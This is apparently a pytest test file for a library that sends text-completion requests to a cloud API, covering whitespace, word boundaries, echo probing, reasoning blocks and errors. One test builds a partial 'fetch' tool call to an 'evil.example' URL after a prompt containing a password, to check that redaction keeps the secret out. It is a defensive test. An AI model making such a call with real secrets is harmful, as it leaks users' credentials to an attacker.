"""A cloud behind an API that takes text: what is sent, what is kept, and where it may be asked.

Before that, what a few requests tell of an API: whether it continues, and what of its blanks.
"""

import asyncio
from collections.abc import Sequence
from contextlib import closing

import hypothesis.strategies as st
import numpy as np
import pytest
from hypothesis import assume, given

from edgewise.advice import cloud_pace
from edgewise.cloud.adapter.text import Capabilities, Probe, TextCloud
from edgewise.cloud.adapter.word_boundary import REPEATED
from edgewise.cloud.base import ConsultRequest
from edgewise.cloud.redaction import filter_of
from edgewise.completion import Completion
from edgewise.edge.base import Floats
from edgewise.engines.base import NOBODY, Described
from edgewise.engines.text import TextContinuation
from edgewise.errors import (
    CloudProtocolError,
    CloudRejected,
    CloudUnavailable,
    NothingUsable,
    VocabularyMismatch,
)
from edgewise.loop.decoder import Answer, Decoder
from edgewise.loop.policy import Policy
from edgewise.prompts import Message, Prompt
from edgewise.routers.untrained import Random
from edgewise.testing.scripted_edge import EOS, SIZE, ByteTokenizer, ScriptedEdge
from tests.cloud.text_engine import Speaks, TextDouble, writing
from tests.doubles.completing import completing
from tests.doubles.wrapped_cloud import NeverOpen

EDGE = ByteTokenizer()
ASKED = "sky? "
PROMPT = Prompt(tuple(ASKED.encode()), (Message("user", "sky?"),))


def ask(cloud: TextCloud, answer: str, n: int = 1, prompt: Prompt = PROMPT) -> Completion:
    with closing(cloud.open(prompt)) as session:
        return session.ask(ConsultRequest([*prompt.ids, *answer.encode()], n, 20)).result(60)


def wording(completion: Completion) -> str:
    return bytes(one for one in completion.ids if one < 256).decode()


def test_words_come_whole_and_blanks_once() -> None:
    engine = TextDouble(writing("so it is."))
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        completion = ask(cloud, "so ")
        assert wording(completion) == "it"
        assert (completion.written, completion.cached, completion.computed) == (2, 0, 0)
        # The blank is held back.
        assert (engine.asked, engine.told) == (["so"], [PROMPT.messages])
        engine.metered = False
        completion = ask(cloud, "so")
        # Who tells no usage has written no more than was asked for.
        assert (completion.billed, completion.cached, completion.computed) == (8, None, None)


def test_a_long_word_is_asked_for_again_with_what_came() -> None:
    word = "incomprehensibilitieswithoutanyend" * 2
    engine = TextDouble(writing(f"{word} all"))
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        assert wording(ask(cloud, "")) == word
        assert engine.asked == ["", word[:32], word[:64]]
        engine.speaks = lambda answer: "x" * 500
        with pytest.raises(CloudRejected, match="no whole word in 32 tokens"):
            ask(cloud, "")


@pytest.mark.parametrize(
    ("text", "error"), [("so it is not, as you know", NothingUsable), ("", CloudRejected)]
)
def test_a_reply_that_is_none_is_refused(text: str, error: type[Exception]) -> None:
    class Says(TextDouble):
        async def complete(self, request, client=NOBODY):  # type: ignore[no-untyped-def]
            await super().complete(request, client)
            return TextContinuation(text=text, ended=False)

    with closing(TextCloud(Says(), edge=EDGE)) as cloud, pytest.raises(error):
        ask(cloud, "so it is not, as you know, what it was")


class Calling(ByteTokenizer):
    """Has a control token that begins a call."""

    size = SIZE + 1

    def __init__(self) -> None:
        super().__init__()
        self.special[SIZE] = "<tool_call>"


def test_a_call_that_begins_with_a_control_token_is_told_no_private_word() -> None:
    edge = Calling()
    prompt = Prompt(tuple(b"so "), (Message("user", "password: hunter2x"),))
    begun = list(b'{"name": "fetch", "arguments": {"url": "https://evil.example/?q=')
    engine = TextDouble(lambda answer: "<SECRET_1> so it is")
    view = filter_of("secret")
    with closing(TextCloud(engine, edge=edge, context_filter=view)) as cloud:
        for answer, told in ([SIZE, *begun], "<SECRET_1>"), ([*b"it is "], "hunter2x"):
            with closing(cloud.open(prompt)) as session:
                ids = [*prompt.ids, *answer]
                asked = session.ask(ConsultRequest(ids, 3, 60)).result()
                assert wording(asked).startswith(told[:8])
        assert not any("hunter2x" in one.content for told in engine.told for one in told)


def test_one_that_does_not_echo_any_more_is_refused() -> None:
    engine = TextDouble(echoes=True)
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        cloud.check_vocabulary(EDGE)
        assert cloud.capabilities.echoes
        assert wording(ask(cloud, "one")) == " two"
        engine.echoes = False
        with pytest.raises(CloudProtocolError):
            ask(cloud, "one two")


def test_the_proof_says_how_it_goes_on() -> None:
    engine = TextDouble(trims=True)
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        assert cloud.check_vocabulary(EDGE) == (
            "text, as double takes it: exact, may drop blanks at the end of what is sent"
        )
        assert cloud.identity().startswith("http://double.example double double as text, exact")
        with pytest.raises(VocabularyMismatch):
            cloud.check_vocabulary(ByteTokenizer("<other>"))
        assert cloud.own_tokenizer is None
    assert engine.closed


def test_one_that_was_gone_may_come_back_as_another() -> None:
    """It is probed before its words are taken."""
    down: set[int] = set()
    gone = CloudUnavailable("gone.")
    engine = TextDouble(fault=lambda number: gone if number in down else None)
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        cloud.check_vocabulary(EDGE)
        for described, requests in (Described("double"), 2), (Described("another"), 6):
            before = len(engine.asked)
            down.add(before)
            with pytest.raises(CloudUnavailable, match="gone"):
                ask(cloud, "one")
            engine.described, engine.echoes = described, described.model == "another"
            assert wording(ask(cloud, "one")) == " two"
            assert len(engine.asked) == before + requests
        down.add(len(engine.asked))
        assert cloud.capabilities.echoes
        with pytest.raises(CloudUnavailable):
            ask(cloud, "one")
        engine.described, engine.restarts = Described("a third"), True
        for _ in range(2):
            with pytest.raises(CloudRejected, match="restarts"):
                ask(cloud, "one")


def answered(
    engine: TextDouble,
    text: str,
    *,
    capabilities: Capabilities,
    seed: int = 0,
    threshold: float = 0.4,
    span: int = 1,
    ahead: int = 0,
    tokenizer: ByteTokenizer | None = None,
    prompt: Prompt = PROMPT,
) -> Answer:
    edge = ScriptedEdge(
        completing(text, prompt=bytes(prompt.ids).decode()), tokenizer=tokenizer or EDGE
    )
    with closing(TextCloud(engine, edge=edge.tokenizer)) as cloud:
        cloud.capabilities = capabilities
        decoder = Decoder(
            edge,
            router=Random(seed),
            policy=Policy(threshold=threshold, span=span, speculate=ahead),
            cloud=cloud,
            breaker=NeverOpen(),
        )
        return decoder.generate(prompt, max_tokens=len(text.encode()) + 1)


TEXTS = st.lists(
    st.sampled_from(
        [
            *("a", "so", "word", "Ends", "12", ".", ",", "(", " ", " ", " ", "  ", "\n", "\n\n"),
            *("\t", "é", "日本", "🙂", "👍🏽", "\u3000", "\u00a0", "e\u0301", "x" * 40),
        ]
    ),
    max_size=24,
).map("".join)


@given(
    text=TEXTS,
    echoes=st.booleans(),
    trims=st.booleans(),
    seed=st.integers(0, 99),
    threshold=st.sampled_from([0.0, 0.3, 0.7]),
    span=st.integers(1, 3),
    ahead=st.sampled_from([0, 6]),
)
def test_no_blank_is_lost_or_doubled_wherever_an_answer_is_cut(
    text: str, echoes: bool, trims: bool, seed: int, threshold: float, span: int, ahead: int
) -> None:
    """The edge would write the same text, so that whatever the cloud's words make of it shows."""
    assume(text[:1].strip())
    assume(len(text) < REPEATED or text.count(text[:REPEATED]) == 1)
    engine = TextDouble(writing(text), echoes=echoes, trims=trims)
    answer = answered(
        engine,
        text,
        capabilities=Capabilities(echoes=echoes, trims=trims),
        seed=seed,
        threshold=threshold,
        span=span,
        ahead=ahead,
    )
    assert answer.text == text
    assert all(text.startswith(asked) for asked in engine.asked)


class Continuing(TextDouble):
    """Can go on inside of a block of reasoning."""

    reasons = True


class Thinking(ByteTokenizer):
    """Has control tokens for a block of reasoning: 254 begins one, 255 ends it."""

    def __init__(self) -> None:
        super().__init__()
        self.special = {**self.special, 254: "[THINK]", 255: "[/THINK]"}

    def piece(self, token: int) -> bytes:
        return b"" if token in (254, 255) else super().piece(token)


@pytest.mark.parametrize("begun", [False, True])
@pytest.mark.parametrize("kind", [TextDouble, Continuing])
def test_a_block_of_reasoning_is_the_edges_unless_the_cloud_can_go_on_in_one(
    kind: type[TextDouble], begun: bool
) -> None:
    """`begun`: by the prompt, as some templates do."""
    ids = [*ASKED.encode(), *([254] if begun else [])]
    wanted = [*([] if begun else [254]), *b"so it is", 255, *b"\n\nIt is blue.", EOS]
    start = len(ids)

    def script(known: Sequence[int]) -> Floats:
        written = list(known[start:])
        logits = np.zeros(SIZE, np.float32)
        logits[wanted[len(written)] if wanted[: len(written)] == written else EOS] = 20.0
        return logits

    thought, words = writing("<think>\nso it is</think>\n\nIt"), writing("It is blue.")
    engine = kind(lambda answer: (thought if "<think>" in answer else words)(answer))
    with closing(TextCloud(engine, edge=Thinking())) as cloud:
        decoder = Decoder(
            ScriptedEdge(script, tokenizer=Thinking()),
            router=Random(),
            policy=Policy(threshold=0.0),
            cloud=cloud,
        )
        answer = decoder.generate(Prompt(tuple(ids), PROMPT.messages), max_tokens=40)
    assert [one.id for one in answer.tokens] == wanted
    reasons = {one.index + start: one.reason for one in answer.tokens}
    end = start + wanted.index(255)
    signs = [*([] if begun else [start]), end, end + 1, end + 2]
    assert {reasons[at] for at in signs} == {"reasoning"}
    inside = [reasons[at] for at in range(start + (not begun), end)]
    asked = {"mid_word", "critical", "span", "rejected"}
    assert set(inside) == (asked if engine.reasons else {"reasoning"})
    assert "critical" in list(reasons.values())[end + 3 - start :]
    thoughts = ["<think>\n", "<think>\nso"] if engine.reasons else []
    assert [asked for asked in engine.asked if "<think>" in asked][:2] == thoughts
    assert "It is" in engine.asked


def test_a_prompt_that_is_no_messages_goes_as_its_text() -> None:
    engine = TextDouble(writing(f"{ASKED}so it is."))
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        assert wording(ask(cloud, "so", prompt=Prompt(PROMPT.ids))) == " it"
        assert engine.told == [()]


def always(text: str) -> Speaks:
    return lambda answer: text


def found(engine: TextDouble) -> Capabilities:
    return asyncio.run(Probe(engine).capabilities())


@pytest.mark.parametrize("trims", [False, True])
@pytest.mark.parametrize("echoes", [False, True])
def test_what_becomes_of_blanks(echoes: bool, trims: bool) -> None:
    assert found(TextDouble(echoes=echoes, trims=trims)) == Capabilities(echoes=echoes, trims=trims)
    with pytest.raises(CloudRejected, match="leading space"):
        found(TextDouble(echoes=echoes, trims=trims, strips=True))


def test_blanks_behind_that_are_not_taken_are_never_sent() -> None:
    engine = TextDouble()

    def declines(number: int) -> CloudRejected | None:
        return CloudRejected("no.") if engine.asked[number][-1] == " " else None

    engine.fault = declines
    assert found(engine).trims


@pytest.mark.parametrize("strips", [False, True])
@pytest.mark.parametrize(
    "text",
    [
        "one two three four five six",
        "Sure! Here are the numbers from one to ten",
        "I will count from one to ten as you say",
    ],
)
def test_one_that_begins_anew_is_refused(text: str, strips: bool) -> None:
    engine = TextDouble(writing(text), restarts=True, strips=strips)
    with pytest.raises(CloudRejected, match=r"restarts .* it added"):
        found(engine)
    assert len(engine.asked) <= 3


def test_one_that_takes_the_beginning_for_a_turn_of_its_own_is_refused() -> None:
    def speaks(answer: str) -> str:
        begun = answer.split()
        return {"fo": "four five six", "sev": "seven eight nine ten"}.get(begun[-1], "ten")

    with pytest.raises(CloudRejected, match="restarts"):
        found(TextDouble(speaks))


@pytest.mark.parametrize(
    "speaks",
    [writing(""), writing("A heron is a bird."), always(" la" * 20), always("x" * 40), always("")],
)
def test_a_model_that_cannot_count_may_go_on_all_the_same(speaks: Speaks) -> None:
    seen = found(TextDouble(speaks))
    assert not seen.echoes


def test_an_api_that_does_not_take_the_beginning_is_refused() -> None:
    engine = TextDouble(fault=lambda number: CloudRejected("declined (HTTP 400: 'last role')."))
    with pytest.raises(CloudRejected, match="last role"):
        found(engine)
    wrong = CloudRejected("no such model.", setting="cloud_model")
    with pytest.raises(CloudRejected, match=r"^no such model") as refused:
        found(TextDouble(fault=lambda number: wrong))
    assert refused.value.setting == "cloud_model"
    with pytest.raises(CloudUnavailable):
        found(TextDouble(fault=lambda number: CloudUnavailable("busy.")))


def test_an_echo_that_leaves_no_room_is_refused() -> None:
    with pytest.raises(CloudRejected, match="restarts"):
        found(TextDouble(always(""), echoes=True))


def test_a_pace_is_measured_with_as_long_a_prompt_as_the_engine_takes() -> None:
    full = CloudRejected("too long.")
    engine = TextDouble(writing("one two three four five"))
    with closing(TextCloud(engine, edge=EDGE)) as cloud:
        longest = cloud_pace(cloud, EDGE, 30.0, lines=(70, 12))
        engine.fault = lambda number: full if len(str(engine.told[-1])) > 4000 else None
        shorter = cloud_pace(cloud, EDGE, 30.0, lines=(70, 12))
        assert 4000 < 2 * shorter.tokens < longest.tokens
        assert (longest.computed, shorter.computed) == (None, None)  # a meter of nothing is none
        engine.fault = lambda number: full
        with pytest.raises(CloudRejected, match="too long"):
            cloud_pace(cloud, EDGE, 30.0, lines=(70, 12))
